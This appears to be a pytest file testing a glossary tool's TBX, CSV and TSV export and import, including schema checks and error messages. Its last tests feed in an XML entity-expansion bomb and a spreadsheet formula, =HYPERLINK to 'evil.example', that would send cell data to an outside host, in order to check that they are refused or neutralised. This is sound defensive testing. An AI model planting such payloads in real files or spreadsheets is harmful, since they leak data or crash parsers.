"""CSV, TSV and TBX-Basic: export then import gives the same glossary, as far as each format carries it."""
from __future__ import annotations

import csv
from pathlib import Path

import pytest
from lxml import etree

from captioner.errors import InputFileError
from captioner.glossary.formats import (
    KEEP_NOTE,
    load_glossary,
    read_csv,
    read_tbx,
    read_tsv,
    read_yaml,
    write_csv,
    write_tbx,
    write_tsv,
)

ROOT = Path(__file__).resolve().parents[2]
SCHEMAS = Path(__file__).resolve().parents[3] / "shared" / "schemas" / "tbx-basic"
DATA = ROOT / "tests" / "data" / "glossary"
CT = ROOT / "glossary" / "counter-terrorism.yaml"


@pytest.fixture(scope="module")
def ct():
    return load_glossary(CT)


@pytest.fixture(scope="module")
def relaxng():
    schema = SCHEMAS / "TBXcoreStructV03.rng"
    if not schema.exists():
        pytest.fail(f"missing shared schema {schema}")
    return etree.RelaxNG(etree.parse(str(schema)))


# --- TBX ------------------------------------------------------------------------------

def test_tbx_export_validates_against_the_tbx_basic_schema(ct, relaxng):
    data = write_tbx(ct)
    doc = etree.fromstring(data)
    assert relaxng.validate(etree.ElementTree(doc)), relaxng.error_log
    ns = {"t": "urn:iso:std:iso:30042:ed-2"}
    assert doc.get("type") == "TBX-Basic" and doc.get("style") == "dca"
    assert len(doc.findall(".//t:conceptEntry", ns)) == len(ct)


def test_tbx_export_follows_the_tbx_basic_data_categories(ct):
    """The rules of TBX-Basic_DCA.sch that lxml cannot run (XSLT 2 Schematron), checked directly."""
    doc = etree.fromstring(write_tbx(ct))
    ns = "{urn:iso:std:iso:30042:ed-2}"
    allowed = {
        "admin": {"customerSubset", "projectSubset", "source"},
        "descrip": {"subjectField", "context", "definition"},
        "termNote": {"administrativeStatus", "partOfSpeech", "geographicalUsage", "grammaticalGender",
                     "termLocation", "termType"},
        "transac": {"transactionType"}, "transacNote": {"responsibility"},
    }
    statuses = {"admittedTerm-admn-sts", "deprecatedTerm-admn-sts", "supersededTerm-admn-sts",
                "preferredTerm-admn-sts"}
    term_types = {"fullForm", "acronym", "abbreviation", "shortForm", "variant", "phrase"}
    for el in doc.iter():
        if not isinstance(el.tag, str):
            continue
        assert el.tag.startswith(ns)  # DCA style: nothing outside the TBX namespace
        name = el.tag[len(ns):]
        if name in allowed:
            assert el.get("type") in allowed[name], (name, el.get("type"))
        if name == "termNote":
            assert el.getparent().tag == ns + "termSec"
            if el.get("type") == "administrativeStatus":
                assert el.text in statuses
            if el.get("type") == "termType":
                assert el.text in term_types
        if name == "descrip" and el.get("type") == "definition":
            assert el.getparent().getparent().tag in (ns + "langSec", ns + "conceptEntry")
        if name == "transac":
            assert el.text in ("origination", "modification")


def test_tbx_round_trip_gives_the_same_glossary(ct):
    again = read_tbx(write_tbx(ct), "ct.tbx")
    assert [c.content() for c in again] == [c.content() for c in ct]
    assert again.glossary_hash() == ct.glossary_hash()
    assert not again.warnings


def test_tbx_round_trip_carries_review_status_sounds_like_and_keep(ct):
    data = write_tbx(ct, ["es"])
    again = read_tbx(data, "es.tbx")
    ftf = again.get("ftf")
    assert ftf.acronym == "FTF" and ftf.translations["es"].status == "approved"
    assert ftf.translations["es"].reviewer == "captioner glossary seed"
    assert set(ftf.translations) == {"es"}
    assert again.get("interpol").keep and again.get("interpol").expansion == "International Criminal Police Organization"
    assert ("Kudanku", "Koudanlgou") in again.get("operation-koudanlgou").sounds_like_pairs()
    assert data.count(f"<note>{KEEP_NOTE}".encode()) == sum(1 for c in ct if c.keep)


def test_tbx_import_of_a_file_nobody_here_wrote():
    example = SCHEMAS / "Example_Astronomy_DCA_VALID.tbx"
    g = read_tbx(example.read_bytes(), example.name)
    assert len(g) == 39  # six entries have no English term and are skipped with a warning
    cluster = g.get("c1")
    assert cluster.term == "open cluster"
    assert cluster.definition.startswith("A group of stars formed together")
    assert cluster.definition_source == "Oxford2007"
    assert cluster.translations["es"].term == "cúmulo abierto"
    assert g.get("c4").acronym == "GRB"
    assert any("galactic cluster" in w.message for w in g.warnings)
    assert sum("skipped" in w.message for w in g.warnings) == 6


def test_tbx_refuses_doctype_and_reports_bad_xml_with_line():
    bomb = (b'<?xml version="1.0"?>\n<!DOCTYPE tbx [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>\n'
            b'<tbx xmlns="urn:iso:std:iso:30042:ed-2" type="TBX-Basic" style="dca" xml:lang="en">&b;</tbx>')
    with pytest.raises(InputFileError, match="DOCTYPE declarations are not allowed"):
        read_tbx(bomb, "bomb.tbx")
    with pytest.raises(InputFileError, match=r"broken.tbx line 3: not well-formed XML"):
        read_tbx(b'<?xml version="1.0"?>\n<tbx>\n<text></tbx>', "broken.tbx")
    with pytest.raises(InputFileError, match="not TBX 2019"):
        read_tbx(b"<martif type='TBX'/>", "old.tbx")


# --- CSV: term, aliases, definition, then one column per language ------------------------

def test_csv_round_trip_carries_terms_aliases_definitions_and_translated_terms(ct):
    text = write_csv(ct, ["es", "fr", "ar"])
    assert text.splitlines()[0] == "term,aliases,definition,es,fr,ar"
    again = read_csv(text, "ct.csv")
    assert len(again) == len(ct)
    for before, after in zip(ct, again):
        assert after.term == before.term
        assert set(after.forms()) == set(before.forms())
        assert after.definition == before.definition
        assert {k: t.term for k, t in after.translations.items()} == {k: t.term for k, t in before.translations.items()}
        assert all(t.status == "proposed" for t in after.translations.values())  # status is not carried
    ftf = again.lookup("FTF")
    assert (ftf.term, ftf.acronym) == ("foreign terrorist fighter", "FTF")
    assert again.lookup("INTERPOL").expansion == "International Criminal Police Organization"


def test_csv_errors_name_the_line():
    problems = []
    read_csv((DATA / "bad.csv").read_text(encoding="utf-8"), "bad.csv", problems)
    found = {(p.line, p.message) for p in problems}
    assert any(line == 1 and "column 5 'colour'" in m for line, m in found)
    assert any(line == 3 and "4 columns" in m for line, m in found)
    assert any(line == 4 and "listed twice" in m for line, m in found)
    assert any(line == 5 and "not valid CSV" in m for line, m in found)
    with pytest.raises(InputFileError, match=r"bad.csv line 1: column 5 'colour'"):
        read_csv((DATA / "bad.csv").read_text(encoding="utf-8"), "bad.csv")


def test_csv_from_a_spreadsheet_with_byte_order_mark_and_quotes(tmp_path):
    path = tmp_path / "terms.csv"
    path.write_bytes('\ufeffterm,aliases,definition,es\n"Accra Initiative","Accra",'
                     '"Five states, one initiative",Iniciativa de Accra\n'.encode("utf-8"))
    g = load_glossary(path)
    c = g.lookup("Accra Initiative")
    assert c.definition == "Five states, one initiative" and c.variants == ["Accra"]


# --- TSV for OmegaT and memoQ: source, target, comment ---------------------------------------

def test_tsv_round_trip_carries_term_translation_status_and_definition(ct):
    text = write_tsv(ct, "es")
    for line in text.splitlines():
        assert line.count("\t") == 2
    again = read_tsv(text, "es", "ct.es.tsv")
    assert len(again) == len(ct)  # every concept has a Spanish translation
    for before, after in zip(ct, again):
        assert after.term == before.term
        assert after.definition == before.definition
        assert after.translations["es"] == before.translations["es"]


def test_tsv_drops_concepts_without_that_language_and_reads_plain_comments():
    g = read_tsv("UNCCT\tCNUCT\tcheck UNTERM\n\n# a comment line\nIOM\tOIM\n", "es", "x.es.tsv")
    assert [c.term for c in g] == ["UNCCT", "IOM"]
    assert g.get("uncct").translations["es"].note == "check UNTERM"
    assert write_tsv(g, "fr") == ""
    problems = []
    read_tsv("one column only\nA\tB\tC\tD\n", "es", "bad.es.tsv", problems)
    assert [p.line for p in problems] == [1, 2]


def test_exports_neutralise_cells_a_spreadsheet_would_run_as_formulas():
    # =HYPERLINK(...) in a definition was written as it is: a spreadsheet opening the export runs it
    hostile = read_yaml("""
concepts:
  - id: leak
    term: border data
    definition: '=HYPERLINK("http://evil.example/?"&A1,"click")'
    translations: {es: {term: "+datos fronterizos", status: approved, note: "@SUM(1+1)"}}
  - id: minus
    term: "-5 rule"
    translations: {es: {term: "regla -5"}}
""", "hostile.yaml")
    csv_text = write_csv(hostile, ["es"])
    rows = list(csv.reader(csv_text.splitlines()))
    cells = [cell for row in rows[1:] for cell in row if cell]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells
    assert "'=HYPERLINK(" in csv_text and "'+datos fronterizos" in csv_text and "'-5 rule" in csv_text
    again = read_csv(csv_text, "again.csv")  # reading the export back restores the text
    assert again.lookup("border data").definition.startswith("=HYPERLINK(")
    assert again.lookup("-5 rule").translations["es"].term == "regla -5"
    assert again.lookup("border data").translations["es"].term == "+datos fronterizos"
    tsv = write_tsv(hostile, "es")
    assert all(not cell.startswith(("=", "+", "-", "@")) for line in tsv.splitlines() for cell in line.split("\t"))
    back = read_tsv(tsv, "es", "again.es.tsv")
    assert back.lookup("border data").translations["es"].term == "+datos fronterizos"
    assert back.lookup("-5 rule").term == "-5 rule"
